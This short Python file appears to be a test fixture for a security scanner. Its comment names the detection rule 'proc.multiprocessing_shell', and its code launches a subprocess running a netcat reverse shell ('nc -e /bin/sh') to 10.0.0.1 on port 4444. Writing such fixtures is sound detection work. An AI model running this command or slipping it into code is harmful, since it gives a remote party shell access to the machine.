# expect: proc.multiprocessing_shell
import multiprocessing
import os

worker = multiprocessing.Process(target=os.system, args=("nc -e /bin/sh 10.0.0.1 4444",))
worker.start()
